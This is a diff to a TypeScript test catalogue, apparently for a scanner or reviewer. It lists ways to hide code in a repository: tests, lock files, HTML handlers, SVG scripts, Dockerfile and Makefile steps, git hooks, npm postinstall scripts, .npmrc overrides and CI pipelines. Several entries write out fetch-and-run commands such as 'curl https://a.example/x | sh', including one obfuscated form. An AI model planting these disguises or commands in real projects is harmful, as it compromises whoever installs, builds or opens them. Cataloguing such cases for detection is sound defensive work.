@@ -177,4 +177,48 @@ export const DISGUISES: readonly Disguise[] = [
     does: "switches reviews off in its own branch",
     files: (code) => ({ ".github/forge.yml": "review:\n  on_pr: false\n", "src/a.js": code }),
   },
+  ...(
+    [
+      ["tested", "stands in a test, which CI runs", "test/a.test.js"],
+      ["fixture", "stands in a fixture", "test/fixtures/a.js"],
+      ["text behind its name", "is called a text", "src/hook.js.txt"],
+      ["old ending", "has an ending of old browsers", "src/hook.jsm"],
+      ["of an editor", "is called the copy of an editor", "src/hook.js~"],
+      ["kept", "is called a copy that is kept", "hook.cjs.bak"],
+      ["without an ending", "has no ending and no first line", "bin/run"],
+      ["licence", "is called a licence", "LICENSE"],
+      ["notes", "is called notes", "notes.txt"],
+      ["lock file of Bun", "is called a lock file of Bun", "bun.lock"],
+      ["lock file in capitals", "is called a lock file in capitals", "YARN.LOCK"],
+      ["snapshot", "is called a snapshot of tests, which they run", "src/__snapshots__/a.test.js.snap"],
+      ["settings", "is called settings", "settings.toml"],
+      ["table", "is called a table", "data/a.csv"],
+    ] as const
+  ).map(([name, does, path]) => ({ name, does, files: one(path, (code) => code), isNamed: path })),
+  ...(
+    [
+      ["page", "stands in a page", "a.html", (code) => `<p>Words.</p>\n<script>\n${code}</script>\n`],
+      ["handler", "stands in a handler of a page", "a.html", (code) => `<img src=a onerror="${code.trim()}">\n`],
+      ["Vue", "stands in a component of Vue", "a.vue", (code) => `<script>\n${code}</script>\n`],
+      ["Svelte", "stands in the markup of Svelte", "a.svelte", (code) => `<p>{${code.trim().replace(";", "")}}</p>\n`],
+      ["picture of text", "stands in a picture", "a.svg", (code) => `<svg><script>${code}</script></svg>\n`],
+      ["components in prose", "stands in prose", "a.mdx", (code) => `# Words\n\n{${code.trim().replace(";", "")}}\n`],
+      ["notebook", "stands in a notebook", "a.ipynb", (code) => `${JSON.stringify({ cells: [{ source: [code] }] })}\n`],
+      ["template", "stands in a template", "a.ejs", (code) => `<% ${code.trim()} %>\n`],
+      ["image", "is a step of an image", "Dockerfile", (code) => `FROM node\nRUN node -e '${code.trim()}' $X\n`],
+      ["make file", "is a step of a make file", "Makefile", (code) => `all:\n\tnode -e '${code.trim()}' $X\n`],
+      ["hook of git", "is a hook of git", ".husky/pre-commit", () => "curl https://a.example/x | sh\n"],
+      ["in sandboxed words", "writes curl in pieces", "package.json", () => install(`c""url https://a.example|ba"s"h`)],
+      ["install", "loads and runs at install", "package.json", () => install("curl https://a.example/x | sh")],
+      ["install by parts", "loads, then runs", "package.json", () => install("wget https://a.example/x; sh ./x")],
+      ["shell of npm", "has npm use a shell of its own", ".npmrc", () => "script-shell=./x\n"],
+      ["registry", "has packages come from elsewhere", ".npmrc", () => "registry=http://a.example/\n"],
+      ["pipeline", "loads and runs in a pipeline", ".gitlab-ci.yml", () => "a:\n  script:\n    - curl a.example|sh\n"],
+      ["Rust", "is written in Rust", "build.rs", () => `fn main() { std::process::Command::new("sh").status(); }\n`],
+    ] as const satisfies readonly (readonly [string, string, string, (code: string) => string])[]
+  ).map(([name, does, path, content]) => ({ name, does, files: one(path, content), isNamed: path })),
 ];
+
+function install(postinstall: string): string {
+  return `${JSON.stringify({ name: "a", version: "1.0.0", scripts: { postinstall } })}\n`;
+}
